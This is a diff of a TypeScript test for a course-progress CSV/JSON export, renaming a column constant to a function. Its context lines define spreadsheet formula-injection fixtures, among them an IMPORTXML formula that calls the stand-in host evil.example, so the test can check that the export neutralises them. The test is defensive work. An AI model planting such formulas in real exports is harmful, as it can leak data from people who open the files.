@@ -1,7 +1,7 @@
 import fs from 'node:fs';
 import { parse } from 'csv-parse/sync';
 import type { CanvasSimulator } from '../../canvas-sim';
-import { PROGRESS_COLUMNS } from '../../src/progress/cohort-report';
+import { progressColumns } from '../../src/progress/cohort-report';
 import { addPlatform, cli, useCliEnvironment, writeTempFile, type CliEnvironment } from '../support/cli';
 import { startSimulator } from '../sync/helpers';
 
@@ -17,7 +17,7 @@ const SECTION_AT = '@SUM(A1:A9)';
 const SECTION_EQUALS = '=IMPORTXML("http://evil.example","//a")';
 const CANVAS_NAME = '=1+1 Canvas Person';
 
-type JsonRow = Record<(typeof PROGRESS_COLUMNS)[number], string | number | null>;
+type JsonRow = Record<string, string | number | null>;
 
 let env: CliEnvironment;
 let sim: CanvasSimulator;
@@ -106,7 +106,7 @@ describe('the progress export and cells a spreadsheet would run', () => {
     expect(json.map((r) => r.name)).toEqual(expect.arrayContaining([HYPERLINK, PLUS, MINUS, AT, CANVAS_NAME]));
     expect(csv).toHaveLength(json.length);
     const expected = json.map((row) =>
-      Object.fromEntries(PROGRESS_COLUMNS.map((column) => {
+      Object.fromEntries(progressColumns().map((column) => {
         const value = row[column];
         if (value === null) return [column, ''];
         if (typeof value === 'number') return [column, String(value)];
